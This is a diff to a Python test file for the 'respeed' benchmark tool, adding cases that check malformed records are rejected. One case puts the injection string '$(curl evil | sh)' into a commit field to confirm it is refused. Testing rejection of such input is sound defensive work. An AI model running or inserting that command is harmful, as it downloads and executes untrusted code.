@@ -1,6 +1,7 @@
 """A record is lines: what is read is what was written, however it was cut or changed meanwhile."""
 
 import json
+import math
 import re
 import resource
 from pathlib import Path
@@ -72,9 +73,13 @@ def test_what_a_line_need_not_say_is_nothing_by_default() -> None:
     ("text", "why"),
     [
         ('{"schema": 4}', "has schema 4, this version of respeed reads 6"),
-        ('{"schema": 6, "more": NaN}', "is damaged"),
+        ('{"schema": 6, more}', "is damaged"),
+        (json.dumps(START | {"timing": {"long_seconds": math.inf}}), "timing.long_seconds: Input should be a finite"),
         (json.dumps(START | {"start_seconds": 1e9}), "start_seconds: Input should be less"),
-        ('{"schema": 6, "more": "\\u202e"}', "a text in it is too long, or holds what cannot be"),
+        (json.dumps(START | {"commit": "$(curl evil | sh)"}), "commit: String should match pattern"),
+        (json.dumps(START | {"versions": {"\u202e": "1"}}), "versions.*holds what cannot be printed"),
+        (json.dumps(START | {"versions": {"torch": "\u3164"}}), "versions.torch: .*holds what cannot be printed"),
+        (json.dumps(START | {"ceilings": {"flops_per_second": 0}}), "ceilings.flops_per_second: Input should be great"),
         (json.dumps(START | {"smoke": True}), "is a smoke record among real ones"),
         (json.dumps(START | {"profile": START["profile"] | {"name": "gpu"}}),
          "is a record of the profile gpu among those of torch-1"),
@@ -91,6 +96,7 @@ def test_what_no_record_says_is_refused_with_the_reason(text: str, why: str) -> 
     [
         ({"flops": 0.5}, "flops: Value error, a part of an operation would lie at the end of no axis"),
         ({"flops": 1e300}, "flops: Input should be less than or equal to"),
+        ({"case": Case("a", "rbm", {"x": [[], []]}), "flops": None}, "parameters.x"),
         ({"blocks": []}, "the case is not whole"),
         ({"case": Case("a product", "matmul", {}), "flops": None}, "the case is not whole"),
         ({"status": "failed"}, "the case is not whole"),
@@ -142,12 +148,12 @@ def test_a_description_that_is_damaged_is_said_once_and_written_anew(
 def test_where_no_record_can_be_used_one_line_ends_it() -> None:
     for what in ("the one record", "none of the 2 records can"):
         write_lines(*make_lines())
-        for path in record_paths(False):
+        for path in record_paths(False, "box"):
             path.write_bytes(b"{")
         with pytest.raises(UserError, match=f"results/records: {what}.* be used; the lines above say why"):
             list(read_machines(False))
     write_box("other")
-    assert {machine: len(records) for machine, records in read_machines(False)} == {"other": 2}
+    assert {machine: len(records) for machine, records in read_machines(False)} == {"box": 0, "other": 2}
 
 
 OTHER = {
